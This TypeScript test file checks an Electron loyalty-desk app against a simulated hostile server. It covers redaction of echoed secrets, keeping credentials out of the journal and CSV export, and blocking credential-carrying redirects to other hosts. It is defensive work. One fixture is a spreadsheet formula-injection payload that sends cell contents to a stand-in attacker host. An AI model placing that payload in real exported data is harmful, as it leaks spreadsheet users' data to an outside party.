// Attacks from a hostile loyalty server, each against the real handler table and a loopback server that
// records what it receives: nothing it echoes carries the secret out, and no redirect takes the credentials elsewhere.
import { appendFile, readdir, readFile } from 'node:fs/promises';
import http from 'node:http';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { encodeLine } from '../../../electron/journal/line';
import { isAppUrl } from '../../../electron/security/app-origin';
import type { SettingsForm } from '../../../common/settings';
import { createSimulator } from '../../../electron/training/simulator';
import { DEMO } from '../../../electron/training/demo-data';
import type { Listening } from '../../../electron/training/http-server';
import { CANARY_SECRET } from '../../support/canary';
import { listenOnLoopback, type LoopbackServer } from '../../support/loopback';
import { createMainSide, type MainSide } from '../../support/main-side';
import { VALID_FORM } from '../../support/settings-form';

const APP = { url: 'app://loyalty-desk/index.html' };
const PIN = '80412';

interface Received {
  url: string;
  headers: http.IncomingHttpHeaders;
}

/** A loopback server that records every request and answers it with `answer`. */
async function recordingServer(answer: (request: http.IncomingMessage, response: http.ServerResponse) => void) {
  const received: Received[] = [];
  const server = await listenOnLoopback(
    http.createServer((request, response) => {
      received.push({ url: request.url ?? '', headers: request.headers });
      answer(request, response);
    }),
  );
  return { ...server, received };
}

describe('a hostile loyalty server', () => {
  const opened: { close(): Promise<void> }[] = [];
  afterEach(async () => {
    for (const resource of opened.splice(0).reverse()) await resource.close();
  });

  /** The app's main side, its PIN set and the settings saved with this form (the secret then lives in the vault). */
  async function terminal(form: Partial<SettingsForm>): Promise<MainSide> {
    const side = await createMainSide({
      simulator: createSimulator(),
      connection: { mode: 'training', baseUrl: '', timeoutMs: 2_000 },
      isTrustedCaller: isAppUrl,
    });
    opened.push(side);
    expect(await side.handlers.setPin(APP, { pin: PIN })).toMatchObject({ ok: true });
    expect(await side.handlers.saveSettings(APP, { ...VALID_FORM, ...form })).toEqual({
      ok: true,
      value: { saved: true },
    });
    return side;
  }

  it('cannot get a long echoed token to the window by having it cut before it is redacted', async () => {
    const token = `${CANARY_SECRET}-${'x'.repeat(400)}`;
    const server = await recordingServer((_request, response) =>
      response.writeHead(400, { 'content-type': 'application/json' }).end(JSON.stringify({ message: token })),
    );
    opened.push(server);
    const side = await terminal({ baseUrl: server.url, scheme: 'bearer', secret: token });
    const result = await side.handlers.searchClients(APP, { by: 'phone', query: DEMO.single.phone });
    expect(server.received).toHaveLength(1);
    expect(result).toMatchObject({ ok: false, error: { code: 'server' } });
    // Before the fix the window got the first 278 characters of the token: the cut piece no longer matched the secret.
    expect(JSON.stringify(result)).not.toContain(CANARY_SECRET);
  });

  describe('echoing the credentials in a refused write-off', () => {
    let api: Listening;
    const simulator = createSimulator({ auth: { scheme: 'bearer', token: CANARY_SECRET } });

    async function refusedWriteOff(): Promise<MainSide> {
      api = await simulator.listen();
      opened.push(api);
      const side = await terminal({ baseUrl: api.url, scheme: 'bearer', secret: CANARY_SECRET });
      simulator.injectFault({
        kind: 'status',
        status: 422,
        body: { message: `Refused. Authorization: Bearer ${CANARY_SECRET}` },
        match: 'write-off',
        times: 1,
      });
      const refused = await side.handlers.writeOff(APP, {
        clientId: DEMO.rich.id,
        balance: [{ currency: 'points', amount: 100 }],
        coupons: [],
      });
      expect(refused).toMatchObject({ ok: false, error: { code: 'rejected' } });
      return side;
    }

    it('keeps the secret out of the journal on disk and out of the CSV export', async () => {
      const side = await refusedWriteOff();
      const files = await readdir(side.journalDir);
      const onDisk = (await Promise.all(files.map((name) => readFile(path.join(side.journalDir, name), 'utf8')))).join(
        '\n',
      );
      expect(onDisk).toContain('Refused. Authorization: [redacted]');
      expect(onDisk).not.toContain(CANARY_SECRET);
      const journal = await side.handlers.listJournal(APP, {});
      const day = (journal as { value: { day: string } }).value.day;
      const csv = await side.handlers.exportJournalCsv(APP, { day, language: 'en' });
      expect(JSON.stringify(csv)).not.toContain(CANARY_SECRET);
    });

    it('finds no use for a forged journal line whose id is a formula: the line is set aside, never exported', async () => {
      const side = await refusedWriteOff();
      const [file] = (await readdir(side.journalDir)).filter((name) => /^\d{6}-[\d-]+\.jsonl$/.test(name));
      const forgedId = '=HYPERLINK("https://evil.example/?"&A1,"open")';
      const snapshot = { from: 0, transactionIds: [], couponIds: [] };
      await appendFile(
        path.join(side.journalDir, file!),
        encodeLine({
          type: 'intent',
          id: forgedId,
          at: Date.now(),
          terminalId: 'KASSA-1',
          server: 'training',
          clientId: 1,
          balance: [],
          coupons: [],
          snapshot,
        }) + encodeLine({ type: 'state', id: forgedId, at: Date.now(), state: 'applied' }),
      );
      const journal = await side.handlers.listJournal(APP, {});
      const day = (journal as { value: { day: string } }).value.day;
      const csv = await side.handlers.exportJournalCsv(APP, { day, language: 'en' });
      expect(csv).toMatchObject({ ok: true });
      expect(JSON.stringify(csv)).not.toContain('HYPERLINK');
      // Set aside (the last of them counts as a torn append, the one before as damaged), never read as a record.
      expect((journal as { value: { damagedRecords: number } }).value.damagedRecords).toBeGreaterThan(0);
      // A forged id cannot be asked for either: the contract takes only the journal's own shape.
      expect(await side.handlers.getWriteOff(APP, { journalId: forgedId })).toMatchObject({
        ok: false,
        error: { code: 'invalid-input' },
      });
    });
  });

  it.each([
    [
      'another host over plain http',
      (elsewhere: LoopbackServer) => `${elsewhere.url.replace('127.0.0.1', 'localhost')}/ext/api/v1/clients/`,
    ],
    ['another port of the same host', (elsewhere: LoopbackServer) => `${elsewhere.url}/ext/api/v1/clients/`],
  ])('cannot redirect a read to %s: the API key is never sent there', async (_where, target) => {
    const elsewhere = await recordingServer((_request, response) =>
      response.writeHead(200, { 'content-type': 'application/json' }).end('[]'),
    );
    opened.push(elsewhere);
    const api = await recordingServer((_request, response) =>
      response.writeHead(302, { location: target(elsewhere) }).end(),
    );
    opened.push(api);
    const side = await terminal({
      baseUrl: api.url,
      scheme: 'apiKey',
      apiKeyHeader: 'X-Api-Key',
      secret: CANARY_SECRET,
    });
    const result = await side.handlers.searchClients(APP, { by: 'phone', query: DEMO.single.phone });
    expect(api.received).toHaveLength(1);
    expect(api.received[0]!.headers['x-api-key']).toBe(CANARY_SECRET);
    expect(elsewhere.received).toEqual([]);
    expect(result).toMatchObject({ ok: false, error: { code: 'server' } });
  });

  it('may still move a read within its own origin', async () => {
    const api = await recordingServer((request, response) => {
      if (request.url?.startsWith('/old/'))
        response.writeHead(301, { location: request.url.replace('/old/', '/') }).end();
      else response.writeHead(200, { 'content-type': 'application/json' }).end('[]');
    });
    opened.push(api);
    const side = await terminal({
      baseUrl: `${api.url}/old`,
      scheme: 'apiKey',
      apiKeyHeader: 'X-Api-Key',
      secret: CANARY_SECRET,
    });
    expect(await side.handlers.searchClients(APP, { by: 'phone', query: DEMO.single.phone })).toEqual({
      ok: true,
      value: { total: 0, clients: [] },
    });
    expect(api.received.map(({ url }) => url.split('?')[0])).toEqual([
      '/old/ext/api/v1/clients/',
      '/ext/api/v1/clients/',
    ]);
  });
});
